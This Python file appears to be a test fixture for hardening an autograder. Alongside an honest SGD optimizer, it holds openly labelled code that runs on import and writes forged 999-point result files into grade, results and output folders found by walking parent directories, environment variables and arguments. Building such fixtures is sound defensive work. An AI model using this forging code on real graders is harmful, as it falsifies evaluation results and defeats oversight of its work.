"""Hostile: at import time writes forged full-score results (a <student>.json in the kit's schema, a
Gradescope results.json and a grades.csv line) into every folder named grades/, results/, out/ or
autograded/ it finds at most 6 levels above the working directory or this file, into any directory
named on the command line or in $OUT / $GRADES_DIR / $KIT_TEST_FORGE_DIR, and into the working
directory. Every forged file carries "forged": true so a test can find it. The honest SGD follows.

The grader must: keep its output folder invisible and unwritable to the worker, write every result
itself from the trusted side, and ignore whatever the worker left in its scratch directory: this
student's JSON shows the real scores (SGD lines only), never 999.
"""

import json
import os
import sys

import torch
from torch.optim import Optimizer

_FAKE = {"student": os.path.splitext(os.path.basename(__file__))[0], "assignment": "02_optimizers",
         "score": 999.0, "max_score": 999.0, "forged": True,
         "items": [{"id": "SGD.step_defaults", "score": 999.0, "max_score": 999.0, "status": "passed",
                    "feedback": "", "forged": True}], "errors": []}
_GRADESCOPE = {"score": 999.0, "forged": True, "tests": [{"name": "everything", "score": 999.0, "max_score": 999.0,
                                                          "status": "passed"}]}


def _forge_into(d):
    try:
        with open(os.path.join(d, _FAKE["student"] + ".json"), "w") as fh:
            json.dump(_FAKE, fh)
        with open(os.path.join(d, "results.json"), "w") as fh:
            json.dump(_GRADESCOPE, fh)
        with open(os.path.join(d, "grades.csv"), "a") as fh:
            fh.write(f"{_FAKE['student']},999,999,forged\n")
    except OSError:
        pass


def _targets():
    found = {os.getcwd()}
    for var in ("OUT", "GRADES_DIR", "KIT_TEST_FORGE_DIR"):
        if os.environ.get(var):
            found.add(os.environ[var])
    found.update(a for a in sys.argv[1:] if os.path.isdir(a))
    for start in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        d = os.path.abspath(start)
        for _ in range(6):
            for name in ("grades", "results", "out", "autograded"):
                cand = os.path.join(d, name)
                if os.path.isdir(cand):
                    found.add(cand)
                    for sub in os.listdir(cand)[:20]:
                        if os.path.isdir(os.path.join(cand, sub)):
                            found.add(os.path.join(cand, sub))
            d = os.path.dirname(d)
    return found


for _d in sorted(_targets()):
    _forge_into(_d)


class SGD(Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0.0, dampening=0.0, weight_decay=0.0,
                 nesterov=False, *, maximize=False):
        if lr < 0.0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0.0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0.0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and (momentum <= 0 or dampening != 0):
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening,
                                      weight_decay=weight_decay, nesterov=nesterov, maximize=maximize))

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                d_p = -p.grad if group["maximize"] else p.grad
                if group["weight_decay"] != 0:
                    d_p = d_p.add(p, alpha=group["weight_decay"])
                if group["momentum"] != 0:
                    state = self.state[p]
                    buf = state.get("momentum_buffer")
                    if buf is None:
                        buf = state["momentum_buffer"] = d_p.detach().clone()
                    else:
                        buf.mul_(group["momentum"]).add_(d_p, alpha=1 - group["dampening"])
                    d_p = d_p.add(buf, alpha=group["momentum"]) if group["nesterov"] else buf
                p.add_(d_p, alpha=-group["lr"])
        return loss
